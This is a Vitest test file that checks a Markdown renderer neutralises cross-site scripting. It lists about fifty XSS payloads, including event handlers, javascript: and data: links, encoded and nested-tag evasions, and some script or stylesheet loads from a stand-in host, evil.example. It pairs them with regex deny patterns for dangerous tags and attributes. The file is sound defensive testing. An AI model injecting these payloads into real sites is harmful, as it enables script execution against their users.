import { describe, expect, it } from "vitest";
import { renderMarkdown } from "./markdown";

// Written as an attacker would post them in an article, a forum post or a case message.
const payloads = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<img src=\"x\" onerror=\"alert(1)\"/>",
  "<IMG SRC=javascript:alert('XSS')>",
  "<img src=\"jav&#x09;ascript:alert(1)\">",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<body onload=alert(1)>",
  "<iframe src=\"javascript:alert(1)\"></iframe>",
  "<iframe src=\"https://evil.example/\"></iframe>",
  "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
  "<object data=\"javascript:alert(1)\"></object>",
  "<embed src=\"javascript:alert(1)\">",
  "<a href=\"javascript:alert(1)\">x</a>",
  "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
  "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
  "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
  "<a href=\"java\tscript:alert(1)\">x</a>",
  "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
  "<a href=\"vbscript:msgbox(1)\">x</a>",
  "<a href=\"//evil.example\">protocol-relative</a>",
  "[click](javascript:alert(1))",
  "[click](JAVASCRIPT:alert(1))",
  "[click](&#106;avascript:alert(1))",
  "[click](data:text/html,<script>alert(1)</script>)",
  "[click](<javascript:alert(1)>)",
  "![x](javascript:alert(1))",
  "![x](x \"onerror=alert(1)\")",
  "![x\" onerror=\"alert(1)](https://example.com/a.png)",
  "[a](https://example.com \"title\" onclick=alert(1))",
  "<div style=\"background:url(javascript:alert(1))\">x</div>",
  "<style>body{background:red}</style>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
  "<form action=\"javascript:alert(1)\"><button>x</button></form>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>",
  "<base href=\"javascript:alert(1)//\">",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
  "<p title=\"&quot;><script>alert(1)</script>\">x</p>",
  "<<script>script>alert(1)<</script>/script>",
  "<scr<script>ipt>alert(1)</script>",
  "<h2 id=\"x\" onmouseover=\"alert(1)\">Heading</h2>",
  "<code class=\"language-js\" onclick=\"alert(1)\">x</code>",
  "<table><tr><td background=\"javascript:alert(1)\">x</td></tr></table>",
  "```html\n<script>alert(1)</script>\n```",
  "`<img src=x onerror=alert(1)>`",
];

describe("the one Markdown sanitizer", () => {
  it.each(payloads)("renders %j inert", (payload) => {
    const { html } = renderMarkdown(payload);
    // Only real tags matter: text such as "&lt;img onerror=...&gt;" is shown, never run.
    const tags = html.match(/<[a-z][^>]*>/gi) ?? [];
    for (const tag of tags) {
      expect(tag).not.toMatch(/^<(script|svg|math|object|embed|style|link|meta|form|input|base|body|video|audio|marquee|details|template|noscript)\b/i);
      expect(tag).not.toMatch(/\son[a-z]+\s*=/i);
      expect(tag).not.toMatch(/javascript:|vbscript:|data:/i);
      expect(tag).not.toMatch(/\s(href|src)="\/\//i);
      if (tag.startsWith("<iframe")) expect(tag).toMatch(/src="https:\/\/(www\.youtube-nocookie\.com|player\.vimeo\.com)\//);
    }
  });

  it("keeps what articles need: headings, lists, tables, code, safe links and images, video players", () => {
    const { html, text } = renderMarkdown(
      [
        "## Returns",
        "",
        "1. Pack the item",
        "2. Print the label",
        "",
        "| Carrier | Days |",
        "|---|---|",
        "| DPD | 2 |",
        "",
        "```js",
        "const a = 1 < 2;",
        "```",
        "",
        "[Our policy](https://ohmnia.example/returns) and ![box](https://ohmnia.example/box.png)",
        "",
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
      ].join("\n"),
    );
    expect(html).toContain("<h2");
    expect(html).toContain("<ol>");
    expect(html).toContain("<table>");
    expect(html).toContain('<code class="language-js">const a = 1 &lt; 2;');
    expect(html).toContain('href="https://ohmnia.example/returns" rel="nofollow noopener noreferrer"');
    expect(html).toContain('src="https://ohmnia.example/box.png"');
    expect(html).toContain('src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"');
    expect(html).toContain("sandbox=");
    expect(text).toContain("Pack the item");
    expect(text).not.toMatch(/<[a-z]/);
  });

  it("sanitizes a pathological post quickly", () => {
    const nasty = "<a href='javascript:x'>".repeat(2000) + "*_`[".repeat(5000) + "<img src=x onerror=1>".repeat(2000);
    const started = performance.now();
    const { html } = renderMarkdown(nasty);
    const elapsed = performance.now() - started;
    expect(html).not.toMatch(/onerror|javascript:/i);
    // A generous bound (QUALITY R3 asks for 200 ms): catches a quadratic blow-up, not jitter.
    expect(elapsed).toBeLessThan(2000);
  });
});
